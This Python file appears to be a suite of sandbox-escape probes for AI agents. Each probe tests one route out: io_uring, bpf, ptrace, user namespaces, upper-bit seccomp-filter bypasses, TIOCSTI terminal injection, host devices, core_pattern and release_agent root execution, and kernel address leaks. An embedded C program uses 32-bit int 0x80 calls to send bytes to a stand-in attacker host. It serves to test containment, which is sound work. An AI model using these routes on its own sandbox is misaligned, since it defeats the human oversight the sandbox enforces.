"""Kernel interfaces that an agent never needs, and through which sandboxes were left."""

import ctypes
import glob
import os
import socket
import struct
import subprocess
import time

from calls import call, taken
from probe import Held, NotHere, command, compiled, probe, reaches_kernel, shell


@probe("the kernel takes the call")
def io_uring(lab):
    """io_uring_setup(2): system calls that no filter sees."""
    parameters = ctypes.create_string_buffer(120)
    reaches_kernel(425, 4, parameters)


@probe("a new user namespace stands, with all capabilities in it", weaker="bwrap")
def new_user_namespace(lab):
    """unshare(1) of a user and a network namespace, for capabilities over a network of one's own."""
    shell("unshare -Urn true")


def accepted(path, flags=os.O_WRONLY):
    """The file can be opened so; nothing is written."""
    os.close(os.open(path, flags))


# subsystems


@probe("the kernel takes the call")
def bpf(lab):
    """bpf(2): programs inside the kernel."""
    taken("bpf", 0, ctypes.create_string_buffer(72), 72)


@probe("the kernel takes the call")
def perf_event(lab):
    """perf_event_open(2): measures the processor and what others do on it."""
    taken("perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0)


@probe("the kernel takes the call")
def userfault(lab):
    """userfaultfd(2): page faults handled by a program, which makes races in the kernel easy to win."""
    taken("userfaultfd", 0)


@probe("the kernel takes the call")
def keyring_found(lab):
    """keyctl(2): the session's keyring, which no namespace separates."""
    taken("keyctl", 0, -3, 0)


@probe("the key is added")
def key_added(lab):
    """add_key(2): memory in the kernel, outside of every limit, that others can find."""
    call("add_key", b"user", b"escape", b"x", 1, -2)


@probe("the kernel takes the call")
def key_requested(lab):
    """request_key(2): the kernel itself starts a program of the host to make the key."""
    taken("request_key", b"user", b"escape-none", None, 0)


@probe("the kernel takes the call")
def segment_descriptors(lab):
    """modify_ldt(2): segments of one's own."""
    taken("modify_ldt", 0, ctypes.create_string_buffer(64), 64)


@probe("the kernel takes the call")
def trace_me(lab):
    """ptrace(2), PTRACE_TRACEME: a parent that changes a child's system calls after the filter saw them."""
    child = os.fork()
    if child == 0:
        try:
            call("ptrace", 0, 0, 0, 0)
        except OSError:
            os._exit(1)
        os._exit(0)
    if os.waitpid(child, 0)[1] != 0:
        raise Held("refused in the child")


@probe("the memory is read")
def memory_of_a_child(lab):
    """process_vm_readv(2): the memory of another process."""
    data = ctypes.create_string_buffer(b"kept", 8)
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    try:
        room = ctypes.create_string_buffer(8)
        here = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(room), 4), 16)
        there = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(data), 4), 16)
        call("process_vm_readv", child, here, 1, there, 1, 0)
    finally:
        os.kill(child, 9)


@probe("the kernel takes the call")
def comparison(lab):
    """kcmp(2): whether two processes share an object of the kernel; its answers order kernel addresses."""
    taken("kcmp", os.getpid(), os.getpid(), 0, 0, 1)


@probe("the kernel takes the call")
def quota(lab):
    """quotactl(2): how much whom may store."""
    taken("quotactl", 0x80000100, None, 0, None)


@probe("the kernel takes the call")
def accounting(lab):
    """acct(2): the kernel appends to a file of one's choice for every process that ends."""
    taken("acct", b"/nonexistent/file")


@probe("the kernel takes the call")
def swap(lab):
    """swapon(2): the machine's memory written to a file of one's choice."""
    taken("swapon", b"/nonexistent/file", 0)


@probe("the kernel takes the call")
def restart(lab):
    """reboot(2), with numbers that mean nothing."""
    taken("reboot", 0, 0, 0, 0)


@probe("the kernel takes the call")
def host_name(lab):
    """sethostname(2), with a length that cannot be."""
    taken("sethostname", b"x", -1)


@probe("the kernel takes the call")
def domain_name(lab):
    """setdomainname(2), with a length that cannot be."""
    taken("setdomainname", b"x", -1)


@probe("the kernel takes the call")
def time_zone(lab):
    """settimeofday(2), with a time zone that cannot be: a clock that goes wrong lets dates pass."""
    taken("settimeofday", None, ctypes.create_string_buffer(struct.pack("=ii", 10000, 0), 8))


@probe("the kernel takes the call")
def clock_speed(lab):
    """adjtimex(2), with a tick that cannot be."""
    taken("adjtimex", ctypes.create_string_buffer(struct.pack("=I", 0x4000), 256))


@probe("the kernel takes the call")
def clock_speed_by_clock(lab):
    """clock_adjtime(2), with a tick that cannot be."""
    taken("clock_adjtime", 0, ctypes.create_string_buffer(struct.pack("=I", 0x4000), 256))


@probe("the kernel's messages are read")
def kernel_log(lab):
    """syslog(2): the kernel's messages, with addresses and names of the host."""
    call("syslog", 3, ctypes.create_string_buffer(4096), 4096)


@probe("the kernel takes the call")
def file_watch(lab):
    """fanotify_init(2): hears of every file that is opened on a mount, and may refuse it."""
    taken("fanotify_init", 4, 0)


@probe("the kernel tells of a mount")
def mounts_listed(lab):
    """listmount(2): the mounts, without /proc."""
    wish = ctypes.create_string_buffer(struct.pack("=IIQQ", 24, 0, 0xFFFFFFFFFFFFFFFF, 0), 24)
    call("listmount", wish, ctypes.create_string_buffer(1024), 128, 0)


# numbers and registers


@probe("the kernel gives the socket")
def family_with_upper_bits(lab):
    """socket(2) with bits beyond 32 in the family: the kernel cuts them off, a filter may compare them."""
    call("socket", socket.AF_PACKET | 1 << 32, socket.SOCK_RAW, 0)


@probe("the kernel gives the socket")
def type_with_upper_bits(lab):
    """socket(2) with bits beyond 32 in the type."""
    call("socket", socket.AF_INET, socket.SOCK_RAW | 1 << 32, 255)


@probe("the kernel gives the socket")
def protocol_with_upper_bits(lab):
    """socket(2) with bits beyond 32 in the protocol: Multipath TCP for one, anything else for the other."""
    call("socket", socket.AF_INET, socket.SOCK_STREAM, 262 | 1 << 32)


@probe("the kernel gives the namespace", weaker="none")
def namespace_type_with_upper_bits(lab):
    """setns(2) with bits beyond 32 in its second argument."""
    call("setns", os.open("/proc/self/ns/uts", os.O_RDONLY), 0x04000000 | 1 << 32)


LOW = """
#define _GNU_SOURCE
#include <sys/mman.h>
#include <string.h>
#include <stdio.h>
#include <netinet/in.h>
#include <arpa/inet.h>
static long old(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return (int)r;
}
int main(int count, char **words) {
    char *low = mmap(0, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    struct sockaddr_in *to = (void *)low;
    to->sin_family = AF_INET; to->sin_port = htons(8080); inet_pton(AF_INET, words[1], &to->sin_addr);
    strcpy(low + 64, words[2]);
    long s = old(359, AF_INET, 1, 0);
    if (s < 0) { fprintf(stderr, "socket: %ld", s); return 2; }
    long c = old(362, s, (long)low, sizeof *to);
    if (c < 0) { fprintf(stderr, "connect: %ld", c); return 3; }
    return old(4, s, (long)low + 64, strlen(words[2])) > 0 ? 0 : 4;
}
"""


@probe("bytes arrive at the attacker")
def old_system_calls(lab):
    """int 0x80: the 32-bit system calls, whose numbers mean something else to a filter, from a 64-bit program."""
    if os.uname().machine != "x86_64":
        raise NotHere("no int 0x80 on this machine")
    command(compiled(LOW), lab.evil, lab.mark())


@probe("the program runs to its end")
def old_program(lab):
    """A 32-bit program, made by hand: every call of it is a 32-bit one."""
    if os.uname().machine != "x86_64":
        raise NotHere("no 32-bit programs on this machine")
    code = bytes.fromhex("b801000000" "bb2a000000" "cd80")  # exit(42)
    size = 52 + 32 + len(code)
    head = b"\x7fELF\x01\x01\x01" + bytes(9)
    head += struct.pack("=HHIIIIIHHHHHH", 2, 3, 1, 0x8048054, 52, 0, 0, 52, 32, 1, 0, 0, 0)
    with open("old", "wb") as file:
        file.write(head + struct.pack("=8I", 1, 0, 0x8048000, 0x8048000, size, size, 5, 4096) + code)
    os.chmod("old", 0o755)
    code = subprocess.run(["./old"]).returncode
    if code != 42:
        raise Held(f"it ended with {code}")


# the terminal


@probe("the character is typed", terminal=True)
def typing(lab):
    """TIOCSTI: typed into the terminal that whoever started the sandbox returns to."""
    call("ioctl", 0, 0x5412, ctypes.c_char_p(b"x"))


@probe("the character is typed", terminal=True)
def typing_with_upper_bits(lab):
    """TIOCSTI with bits beyond 32 in the request: the kernel cuts them off, a filter may compare them."""
    call("ioctl", 0, 0x5412 | 1 << 32, ctypes.c_char_p(b"x"))


@probe("the kernel takes the call", terminal=True)
def pasting(lab):
    """TIOCLINUX: what is marked on a console pasted into it."""
    taken("ioctl", 0, 0x541C, ctypes.c_char_p(b"\x03"))


@probe("the terminal has another line discipline", terminal=True)
def line_discipline(lab):
    """TIOCSETD: another line discipline (N_NULL) for the terminal, which stays when the agent has ended."""
    now = ctypes.c_int()
    call("ioctl", 0, 0x5423, ctypes.byref(ctypes.c_int(27)))
    call("ioctl", 0, 0x5424, ctypes.byref(now))
    if now.value != 27:
        raise Held("it stays as it was")


# devices


@probe("one of them opens")
def disk(lab):
    """The host's disks and loop devices, by their device files."""
    last = Held("none is seen")
    for name in sorted(os.listdir("/dev")):
        if name[:2] in ("vd", "sd", "nv", "xv", "dm", "lo", "zr"):
            try:
                return accepted(f"/dev/{name}", os.O_RDONLY)
            except OSError as error:
                last = error
    raise last


@probe("the device opens")
def virtual_machines(lab):
    """/dev/kvm: the processor's virtualisation."""
    accepted("/dev/kvm", os.O_RDWR)


@probe("the device opens")
def file_system_by_program(lab):
    """/dev/fuse: a file system that a program answers for."""
    accepted("/dev/fuse", os.O_RDWR)


@probe("the device opens")
def kernel_messages(lab):
    """/dev/kmsg: writes lines into the kernel's log, and reads it."""
    accepted("/dev/kmsg", os.O_RDWR)


@probe("the device opens")
def loop_devices(lab):
    """/dev/loop-control: files become disks."""
    accepted("/dev/loop-control", os.O_RDWR)


@probe("the device opens")
def virtual_console(lab):
    """/dev/tty1: the machine's own screen and keyboard."""
    accepted("/dev/tty1", os.O_RDWR | os.O_NOCTTY)


@probe("the device opens")
def userfault_device(lab):
    """/dev/userfaultfd: page faults handled by a program, without the system call."""
    accepted("/dev/userfaultfd", os.O_RDWR)


# /proc and /sys


@probe("the file opens for writing")
def core_pattern(lab):
    """/proc/sys/kernel/core_pattern: a program that the kernel runs as root when something crashes."""
    accepted("/proc/sys/kernel/core_pattern")


@probe("the file opens for writing")
def kernel_settings(lab):
    """/proc/sys: any setting of the kernel."""
    accepted("/proc/sys/kernel/randomize_va_space")


@probe("the file opens for writing")
def power_state(lab):
    """/sys/power/state: the machine sleeps."""
    accepted("/sys/power/state")


@probe("the file opens for writing")
def memory_ranges(lab):
    """/proc/mtrr: how memory is cached."""
    accepted("/proc/mtrr")


@probe("the file opens for writing")
def release_agent(lab):
    """release_agent of control groups version 1: a program that the kernel runs as root when a group is empty."""
    found = glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/release_agent")
    if not found:
        raise Held("none is seen")
    accepted(found[0])


@probe("the file opens for writing")
def control_groups(lab):
    """cgroup.procs of the root group: out of every limit."""
    found = glob.glob("/sys/fs/cgroup/*/cgroup.procs") + glob.glob("/sys/fs/cgroup/cgroup.procs")
    if not found:
        raise Held("none is seen")
    accepted(found[0])


@probe("the file opens")
def kernel_tracing(lab):
    """tracefs: what the kernel and every process does."""
    accepted("/sys/kernel/tracing/trace", os.O_RDONLY)


@probe("an address is told")
def kernel_addresses(lab):
    """/proc/kallsyms: where the kernel's functions lie."""
    with open("/proc/kallsyms") as file:
        first = file.readline().split()
        if not first or int(first[0], 16) == 0:
            raise Held("only zeros, or nothing")


@probe("a page's place in the machine's memory is told")
def physical_addresses(lab):
    """/proc/self/pagemap: where one's own pages lie in the machine's memory."""
    data = ctypes.create_string_buffer(b"here", 4096)
    with open("/proc/self/pagemap", "rb", 0) as file:
        file.seek(ctypes.addressof(data) // 4096 * 8)
        if struct.unpack("=Q", file.read(8))[0] & (1 << 55) - 1 == 0:
            raise Held("only zeros")


@probe("an address is told")
def physical_layout(lab):
    """/proc/iomem: where the kernel lies in the machine's memory."""
    with open("/proc/iomem") as file:
        if not any(int(line.split("-")[0], 16) for line in file):
            raise Held("only zeros")


@probe("the file is read")
def kernel_timers(lab):
    """/proc/timer_list: what every process of the machine waits for."""
    with open("/proc/timer_list") as file:
        file.read(100)


@probe("a name of the host is read")
def hardware(lab):
    """/sys: the machine's devices and their names."""
    if not os.listdir("/sys/devices"):
        raise Held("empty")


@probe("a page's use is told")
def physical_pages(lab):
    """/proc/kpageflags: what every page of the machine's memory is used for."""
    with open("/proc/kpageflags", "rb", 0) as file:
        if not file.read(4096):
            raise Held("empty")


@probe("a physical address is told")
def kernel_memory_map(lab):
    """/proc/vmallocinfo: what the kernel has mapped, and where in the machine's memory it is."""
    with open("/proc/vmallocinfo") as file:
        if "phys=" not in file.read():
            raise Held("no address")
